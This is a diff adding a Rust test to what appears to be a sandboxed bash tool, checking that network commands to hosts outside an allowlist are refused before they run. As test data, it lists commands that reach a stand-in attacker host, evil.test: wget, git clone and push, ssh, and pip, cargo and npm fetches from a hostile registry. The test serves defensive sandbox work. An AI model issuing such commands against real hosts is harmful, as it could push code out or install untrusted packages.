@@ -411,3 +411,53 @@ fn info_says_how_the_network_is_held() {
     assert_eq!(out.status.code(), Some(125));
     assert!(text(&out.stderr).contains(ALLOW), "{}", text(&out.stderr));
 }
+
+#[test]
+fn literal_hosts_the_list_refuses_are_denied_before_anything_runs() {
+    let lab = lab();
+    let two = http_server("127.0.0.2");
+    let three = http_server("127.0.0.3");
+    let env = [(ALLOW, "127.0.0.2,*.allowed.test")];
+    let out = cmd(&lab, "0467", &env, &format!("curl -s http://127.0.0.3:{three}/ > got.txt")).output().unwrap();
+    assert_eq!(out.status.code(), Some(126));
+    assert_eq!(
+        text(&out.stderr),
+        format!(
+            "sandbox-bash: denied: 127.0.0.3:{three}: not in the network allowlist of {ALLOW}; the entry \
+             \"127.0.0.3:{three}\" (or \"127.0.0.3\") in the allow list of {ALLOW} would allow it (curl at line 1:1)\n"
+        )
+    );
+    assert!(!lab.ws.join("got.txt").exists(), "nothing ran");
+    for (program, host) in [
+        ("wget -q -O- https://evil.test/x", "evil.test:443"),
+        ("git clone https://evil.test/r.git", "evil.test:443"),
+        ("git push git@evil.test:o/r.git", "evil.test"),
+        ("ssh deploy@evil.test true", "evil.test"),
+        ("pip download -i https://evil.test/simple x", "evil.test:443"),
+        ("cargo fetch --config 'source.x.registry=\"sparse+https://evil.test/\"' https://evil.test/i", "evil.test:443"),
+        ("npm install --registry=https://evil.test/ left-pad", "evil.test:443"),
+    ] {
+        let out = cmd(&lab, "0467", &env, program).output().unwrap();
+        let err = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(126), "{program}: {err}");
+        assert!(
+            err.contains(&format!("sandbox-bash: denied: {host}: not in the network allowlist")),
+            "{program}: {err}"
+        );
+    }
+    // What the list allows runs (through the proxy), and so do names the static layer cannot
+    // judge (a remote's name, a registry's default host): the proxy holds those.
+    let got = ok(&cmd(&lab, "0467", &env, &format!("curl -s http://127.0.0.2:{two}/ok")).output().unwrap());
+    assert!(got.contains("HELLO FROM 127.0.0.2 GET /ok"), "{got}");
+    let out = cmd(&lab, "0467", &env, "git ls-remote https://www.allowed.test/r.git").output().unwrap();
+    assert!(!text(&out.stderr).contains("sandbox-bash: denied"), "{}", text(&out.stderr));
+    // --sandbox-explain says the same in its JSON.
+    let mut c = Command::new(lab::SB);
+    c.args(["--sandbox-explain", "--sandbox-json", "-c", &format!("curl http://127.0.0.3:{three}/")]);
+    c.current_dir(&lab.ws).env("SANDBOX_BASH_WORKSPACE", &lab.ws).env(ALLOW, "127.0.0.2").env_remove(SYSTEM);
+    let out = c.output().unwrap();
+    assert_eq!(out.status.code(), Some(126));
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(doc["verdict"], "deny");
+    assert!(doc["hosts_refused"][0].as_str().unwrap().starts_with(&format!("127.0.0.3:{three}: not in")), "{doc}");
+}
